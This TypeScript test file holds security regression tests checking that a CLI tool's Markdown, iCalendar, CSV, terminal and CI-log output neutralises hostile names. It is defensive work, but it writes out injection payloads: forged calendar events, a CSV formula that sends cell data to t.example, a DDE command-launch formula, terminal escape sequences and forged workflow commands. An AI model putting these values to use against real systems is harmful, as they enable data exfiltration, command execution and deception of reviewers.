/**
 * Issue 22: one test per row of the table of findings, each the issue's own minimal case on
 * a copy of the bundled organisation, run in process. Each asserts what the output guarantees
 * (docs/security.md), not how a fix achieves it, so a fix may refuse the data or escape it.
 * Assertions are soft: a test reports every part of its finding that still fails, not the first.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import type { Nodes } from 'mdast';
import { parse as parseHtml } from 'parse5';
import { describe, expect, it } from 'vitest';
import { cellBreak } from '../../src/output/markdown.js';
import { committedOrganisation, parseMarkdown } from '../helpers/hostile.js';
import { REPO_ROOT } from '../helpers/cli.js';
import { runInProcess } from '../helpers/in-process.js';
import { AS_OF, copyOrganisation } from '../helpers/org-copy.js';

const cop = (root: string, ...args: string[]) => runInProcess([...args, '--root', root, ...(args[0] === 'diff' ? [] : ['--as-of', AS_OF])], root);

/** Replaces `from` (which must be there) with `to` in a file of the data root. */
function edit(root: string, file: string, from: string | RegExp, to: string): void {
  const path = join(root, file);
  const text = readFileSync(path, 'utf8');
  const edited = text.replace(from, to);
  expect(edited, `${file} holds ${String(from)}`).not.toBe(text);
  writeFileSync(path, edited);
}

/** A YAML double-quoted scalar for `text` (JSON's escapes are YAML's). */
const quoted = (text: string) => JSON.stringify(text);

const nodesOf = (tree: Nodes, type: string): Nodes[] => {
  const found: Nodes[] = [];
  const visit = (node: Nodes) => {
    if (node.type === type) found.push(node);
    if ('children' in node) for (const child of node.children) visit(child as Nodes);
  };
  visit(tree);
  return found;
};

/** The text a reader sees in a Markdown node (code spans included; HTML is not text). */
const textOf = (node: Nodes): string => ('value' in node && node.type !== 'html' ? node.value : 'children' in node ? node.children.map((c) => textOf(c as Nodes)).join('') : '');
const visibleText = (markdown: string) => textOf(parseMarkdown(markdown));
const MENTION = /(?:^|[^\w`])@[A-Za-z0-9][\w-]*(?:\/[\w-]+)?/;

function expectInertMarkdown(markdown: string, what: string): void {
  const tree = parseMarkdown(markdown);
  // cop's own line break inside a table cell (two items of one month's evidence) is the only HTML it writes; data never makes one.
  const html = nodesOf(tree, 'html').map((n) => (n as { value: string }).value);
  expect.soft(html.filter((value) => value !== cellBreak.value), `${what}: HTML from data`).toEqual([]);
  expect.soft(nodesOf(tree, 'image'), `${what}: images from data`).toEqual([]);
  const mentions = nodesOf(tree, 'text').filter((n) => MENTION.test((n as { value: string }).value));
  expect.soft(mentions.map((n) => (n as { value: string }).value), `${what}: mentions from data`).toEqual([]);
}

/** Line breaks as LF: an escaped CR LF may come back as LF alone. */
const lf = (text: string) => text.replace(/\r\n?/g, '\n');
/** An iCalendar TEXT value as written (RFC 5545 §3.3.11), unescaped. */
const unescapeIcsText = (value: string) => lf(value.replace(/\\([\\;,nN])/g, (_, c: string) => (c.toLowerCase() === 'n' ? '\n' : c)));

describe('issue 22: every finding of the table stays fixed', () => {
  it('#1 cop diff: a new CoP named "A11y\\n\\n<!--" hides nothing after it; people\'s mentions and images are shown, not obeyed; text lines cannot be forged', async () => {
    const root = committedOrganisation();
    // A new CoP whose name opens an HTML comment, and in the same change a ×100 budget raise.
    mkdirSync(join(root, 'cops/a11y'));
    const proposal = readFileSync(join(root, 'cops/security/charter.yaml'), 'utf8');
    writeFileSync(join(root, 'cops/a11y/charter.yaml'), proposal.replace(/^id: security$/m, 'id: a11y').replace(/^name: .*$/m, `name: ${quoted('A11y\n\n<!--')}`));
    edit(root, 'cops/aws/charter.yaml', 'hours_per_month: 2', 'hours_per_month: 200');
    edit(root, 'people.yaml', 'name: Lucy Chen', `name: ${quoted('Lucy @acme/everyone ![](https://t.example/x.png)')}`);
    edit(root, 'cops/mobile/charter.yaml', /^name: .*$/m, `name: ${quoted('Mobile\n1 change, no lifecycle problems.')}`);

    const markdown = await cop(root, 'diff', '--base', 'main', '--format', 'markdown');
    expect.soft(markdown.status).toBe(0);
    expectInertMarkdown(markdown.stdout, 'diff --format markdown');
    // The budget raise is still there for the reviewer to read.
    expect.soft(visibleText(markdown.stdout)).toMatch(/2 → 200/);

    const text = await cop(root, 'diff', '--base', 'main');
    expect.soft(text.stdout.split('\n')).not.toContain('1 change, no lifecycle problems.');
    expect.soft(text.stdout.split('\n').filter((l) => l.trim() === '<!--')).toEqual([]);
  });

  it('#2 iCalendar: a line break, comma or semicolon in a CoP name or the organisation forges no event or to-do, and the names read back exactly', async () => {
    const root = copyOrganisation();
    const forged = 'AWS\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged\r\nSUMMARY:Wire funds\r\nDTSTART:20261201T090000Z\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x';
    edit(root, 'cops/aws/charter.yaml', /^name: .*$/m, `name: ${quoted(forged)}`);
    const organisation = 'Harbourline; Digital, Ltd\nEND:VCALENDAR\nBEGIN:VTODO\nUID:todo\nPRIORITY:1\nSUMMARY:Pay invoice\nEND:VTODO';
    edit(root, 'cop.config.yaml', /^organisation: .*$/m, `organisation: ${quoted(organisation)}`);

    const calendar = await cop(root, 'calendar', 'aws');
    expect.soft(calendar.status).toBe(0);
    const parsed = new ICAL.Component(ICAL.parse(calendar.stdout));
    expect.soft(parsed.getAllSubcomponents('vevent').map((e) => e.getFirstPropertyValue('uid'))).toEqual([expect.stringMatching(/^cop-aws-meetings@/)]);
    expect.soft(parsed.getAllSubcomponents('vtodo')).toEqual([]);
    // ical.js leaves an X- property's escapes as written.
    const calendarName = unescapeIcsText(String(parsed.getFirstPropertyValue('x-wr-calname')));
    expect.soft(calendarName).toContain(lf(forged));
    expect.soft(calendarName).toContain(lf(organisation));

    const due = await cop(root, 'due', '--format', 'ics');
    const items = JSON.parse((await cop(root, 'due', '--format', 'json')).stdout) as { items: unknown[] };
    const todos = new ICAL.Component(ICAL.parse(due.stdout));
    expect.soft(todos.getAllSubcomponents('vtodo')).toHaveLength(items.items.length);
    expect.soft(todos.getAllSubcomponents('vtodo').map((t) => t.getFirstPropertyValue('uid'))).not.toContain('todo');
  });

  it('#3 generated blocks: a hand-written line that starts like the begin marker is not a marker, and a byte-order mark hides no block', async () => {
    const root = copyOrganisation();
    const path = join(root, '.github/CODEOWNERS');
    expect.soft((await cop(root, 'codeowners', '--write')).status).toBe(0);
    const block = readFileSync(path, 'utf8');
    const handWritten = '# BEGIN cop codeowners is managed by the platform team; ask them first\n/docs/ @harbourline/docs\n';
    writeFileSync(path, `${handWritten}${block}`);
    const rewrite = await cop(root, 'codeowners', '--write');
    // Either the lines are kept, or the file is refused and left as it was: never lost.
    expect.soft(readFileSync(path, 'utf8')).toContain('/docs/ @harbourline/docs\n');
    if (rewrite.status === 0) expect.soft(readFileSync(path, 'utf8')).toBe(`${handWritten}${block}`);

    writeFileSync(path, `\ufeff${block}`);
    await cop(root, 'codeowners', '--write');
    const begins = readFileSync(path, 'utf8').split('\n').filter((l) => l.replace('\ufeff', '').startsWith('# BEGIN cop codeowners ('));
    expect.soft(begins).toHaveLength(1);

    // The docs' example marker inside a fenced block of a README is text, not a marker.
    expect.soft((await cop(root, 'readme', '--write')).status).toBe(0);
    const readme = join(root, 'cops/aws/README.md');
    const generated = readFileSync(readme, 'utf8');
    const docsExample = readFileSync(join(REPO_ROOT, 'docs/commands/readme.md'), 'utf8').split('\n').find((l) => l.startsWith('<!-- BEGIN cop readme'))!;
    const fence = `## How the block works\n\n\`\`\`markdown\n${docsExample}\nhand-written example\n<!-- END cop readme -->\n\`\`\`\n\nHand-written notes after the fence.\n`;
    writeFileSync(readme, `${fence}\n${generated}`);
    await cop(root, 'readme', '--write');
    expect.soft(readFileSync(readme, 'utf8')).toContain(fence);
  });

  it('#4 report, health and review Markdown: an HTML or mention organisation name and a CoP named "Mobile\\n\\n<!--" hide no evidence', async () => {
    const root = copyOrganisation();
    edit(root, 'cop.config.yaml', /^organisation: .*$/m, `organisation: ${quoted('Harbourline <img src=https://t.example/x.png> @acme/everyone')}`);
    edit(root, 'cops/mobile/charter.yaml', /^name: .*$/m, `name: ${quoted('Mobile\n\n<!--')}`);
    for (const args of [
      ['report', '--format', 'markdown'],
      ['health', '--format', 'markdown'],
      ['review', 'mobile', '--quarter', '2026Q3'],
      ['review', '--org', '--year', '2026'],
    ]) {
      const result = await cop(root, ...args);
      expect.soft(result.status, args.join(' ')).toBe(0);
      expectInertMarkdown(result.stdout, args.join(' '));
    }
    // The flagged CoP's evidence is there to read.
    expect.soft(visibleText((await cop(root, 'health', '--format', 'markdown')).stdout)).toMatch(/low-participation/);
  });

  it('#5 README tables: a lone carriage return in a name injects no heading or alert, and a trailing one leaves no README stale', async () => {
    const root = copyOrganisation();
    edit(root, 'people.yaml', 'name: Finn Gallagher', `name: ${quoted('Finn Gallagher\r# Injected heading\r> [!CAUTION]\r> Approve now')}`);
    edit(root, 'cops/aws/charter.yaml', /^name: .*$/m, `name: ${quoted('AWS\r')}`);
    expect.soft((await cop(root, 'readme', '--write')).status).toBe(0);
    for (const file of ['cops/README.md', 'cops/mobile/README.md']) {
      const text = readFileSync(join(root, file), 'utf8');
      expect.soft(text, file).not.toContain('\r');
      const headings = nodesOf(parseMarkdown(text), 'heading').map(textOf);
      expect.soft(headings.filter((h) => h.includes('Injected')), file).toEqual([]);
      expect.soft(nodesOf(parseMarkdown(text), 'blockquote'), file).toEqual([]);
    }
    // Just written, so up to date: for `readme --check` and for `cop check`'s readme-current.
    expect.soft((await cop(root, 'readme', '--check')).status).toBe(0);
    expect.soft((await cop(root, 'check')).status).toBe(0);
  });

  it('#6 cop ls --format csv: a name that begins like a formula is not a formula', async () => {
    const root = copyOrganisation();
    edit(root, 'cops/aws/charter.yaml', /^name: .*$/m, `name: ${quoted('=HYPERLINK("https://t.example/?x="&A1,"AWS")')}`);
    edit(root, 'cops/mobile/charter.yaml', /^name: .*$/m, `name: ${quoted('@SUM(1+1)*cmd|"/c calc"!A0')}`);
    edit(root, 'cops/security/charter.yaml', /^name: .*$/m, `name: ${quoted('\t+1')}`);
    const result = await cop(root, 'ls', '--format', 'csv');
    expect.soft(result.status).toBe(0);
    const rows = parseCsv(result.stdout, { bom: true }) as string[][];
    expect.soft(rows).toHaveLength(8);
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect.soft(formulas).toEqual([]);
  });

  it('#7 terminal and CI logs: escape sequences in names reach no terminal, and a YAML key forges no workflow command', async () => {
    const root = copyOrganisation();
    const hostile = 'AWS\x1b]52;c;aGVsbG8=\x07\x1b[8mhidden\x1b[0m\x1b]8;;https://t.example/\x1b\\link\x1b]8;;\x1b\\\x9b31m';
    edit(root, 'cops/aws/charter.yaml', /^name: .*$/m, `name: ${quoted(hostile)}`);
    for (const args of [['ls'], ['show', 'aws']]) {
      const result = await cop(root, ...args);
      expect.soft(result.status, args.join(' ')).toBe(0);
      expect.soft(result.stdout, args.join(' ')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    }

    const keyed = copyOrganisation();
    edit(keyed, 'cops/aws/charter.yaml', /^name: .*$/m, `name: AWS\n${quoted('x\n::warning file=cop.config.yaml::Approved by the CTO\n::add-mask::x')}: 1`);
    const check = await cop(keyed, 'check');
    expect.soft(check.status).toBe(1);
    expect.soft([...check.stdout.split('\n'), ...check.stderr.split('\n')].filter((l) => /^\s*::/.test(l))).toEqual([]);
  });

  it('#8 in-place edits: members prune --write keeps the comments of a flow list (or refuses), and check --fix keeps what follows a modeline', async () => {
    const root = copyOrganisation();
    const flow = 'members: [seren.howarth, kwame.asante, lucy.chen, fatima.sheikh,\n  # on leave: DO NOT REMOVE before March\n  jamie.ferguson, ben.hartley, callum.reid, hannah.price,\n  # placement students\n  arjun.mehta, ellie.watts, joe.barker, nadia.rahman]';
    edit(root, 'cops/aws/charter.yaml', /^members:\n(  - .*\n)+/m, `${flow}\n`);
    expect.soft((await cop(root, 'check')).status).toBe(0);
    const prune = await cop(root, 'members', 'prune', 'aws', '--months', '3', '--write');
    const charter = readFileSync(join(root, 'cops/aws/charter.yaml'), 'utf8');
    expect.soft(charter).toContain('# on leave: DO NOT REMOVE before March');
    expect.soft(charter).toContain('# placement students');
    // A refusal says what to do instead.
    if (prune.status !== 0) expect.soft(prune.stderr).toMatch(/block list/);

    const fixRoot = copyOrganisation();
    edit(fixRoot, 'cops/aws/charter.yaml', /^# yaml-language-server: .*$/m, '# yaml-language-server: $schema=../../schemas/meeting.schema.json   # keep: reviewed by finance');
    await cop(fixRoot, 'check', '--fix');
    const fixed = readFileSync(join(fixRoot, 'cops/aws/charter.yaml'), 'utf8').split('\n')[0]!;
    expect.soft(fixed).toContain('charter.schema.json');
    expect.soft(fixed).toContain('# keep: reviewed by finance');
  });

  it('#9 calendar file names: a CoP with the id `all` is refused, or gets a file of its own', async () => {
    const root = copyOrganisation();
    const aws = readFileSync(join(root, 'cops/aws/charter.yaml'), 'utf8');
    mkdirSync(join(root, 'cops/all'));
    writeFileSync(join(root, 'cops/all/charter.yaml'), aws.replace(/^id: aws$/m, 'id: all').replace(/^name: AWS$/m, 'name: All hands'));
    const check = await cop(root, 'check', '--format', 'json');
    const refused = (JSON.parse(check.stdout) as { diagnostics: { file: string; severity: string }[] }).diagnostics.some((d) => d.file === 'cops/all/charter.yaml' && d.severity === 'error');
    if (refused) return;
    const out = mkdtempSync(join(tmpdir(), 'cop-calendars-'));
    const written = await cop(root, 'calendar', '--out', out);
    expect.soft(written.status).toBe(0);
    const scheduled = (JSON.parse((await cop(root, 'calendar', '--format', 'json')).stdout) as { cops: unknown[] }).cops.length;
    expect.soft(scheduled).toBe(4);
    // One file per scheduled CoP and one combined calendar: none overwrote another.
    expect.soft(readdirSync(out).filter((f) => f.endsWith('.ics'))).toHaveLength(scheduled + 1);
  });

  it('#10 site: a 120-character word wraps, and a right-to-left override in a name does not leak into the text around it', async () => {
    const root = copyOrganisation();
    edit(root, 'cops/aws/charter.yaml', /^name: .*$/m, `name: ${'W'.repeat(120)}`);
    edit(root, 'people.yaml', 'name: Stacy Leblanc', `name: ${quoted('Stacy \u202eLeblanc')}`);
    const out = mkdtempSync(join(tmpdir(), 'cop-site-'));
    expect.soft((await cop(root, 'site', '--out', out)).status).toBe(0);
    const css = readFileSync(join(out, 'assets/site.css'), 'utf8');
    expect.soft(css).toMatch(/overflow-wrap:\s*anywhere|word-break:\s*break-(all|word)/);

    const page = readFileSync(join(out, 'cops/aws.html'), 'utf8');
    const isolatedClasses = [...css.matchAll(/\.([\w-]+)[^{}]*\{[^}]*unicode-bidi:\s*(isolate|plaintext)/g)].map((m) => m[1]!);
    interface Node { nodeName: string; tagName?: string; value?: string; attrs?: { name: string; value: string }[]; childNodes?: Node[] }
    const unisolated: string[] = [];
    const visit = (node: Node, isolated: boolean) => {
      const attrs = new Map((node.attrs ?? []).map((a) => [a.name, a.value]));
      const here =
        isolated ||
        node.tagName === 'bdi' ||
        attrs.has('dir') ||
        /unicode-bidi:\s*(isolate|plaintext)/.test(attrs.get('style') ?? '') ||
        (attrs.get('class') ?? '').split(/\s+/).some((c) => isolatedClasses.includes(c));
      if (node.nodeName === '#text' && node.value?.includes('\u202e') && !here) unisolated.push(node.value);
      for (const child of node.childNodes ?? []) visit(child, here);
    };
    visit(parseHtml(page) as unknown as Node, false);
    expect.soft(page).toContain('\u202e');
    expect.soft(unisolated).toEqual([]);
  });

  it('#11 numbers: an amount of 1e308 or hours of 1e32 never shows as Infinity', async () => {
    const root = copyOrganisation();
    edit(root, 'cops/aws/meetings/2026-10-22.yaml', /amount: [\d.]+/, 'amount: 1e308');
    edit(root, 'cops/aws/meetings/2026-10-22.yaml', /hours: [\d.]+/, 'hours: 1e32');
    const check = await cop(root, 'check', '--format', 'json');
    const refused = (JSON.parse(check.stdout) as { diagnostics: { file: string; severity: string }[] }).diagnostics.some((d) => d.file === 'cops/aws/meetings/2026-10-22.yaml' && d.severity === 'error');
    const outputs = await Promise.all(
      [['report'], ['report', '--format', 'markdown'], ['report', '--format', 'json'], ['report', '--format', 'finance-csv'], ['ls'], ['show', 'aws']].map((args) => cop(root, ...args)),
    );
    for (const { stdout } of outputs) expect.soft(stdout).not.toMatch(/Infinity|∞/);
    // Refused by `cop check` (the reports then exit 1), or reported as finite figures.
    if (!refused) {
      const json = outputs[2]!;
      expect.soft(json.status).toBe(0);
      expect.soft(json.stdout).not.toMatch(/"(actual|total|cost|amount|hours)": null/);
    }
  });
});
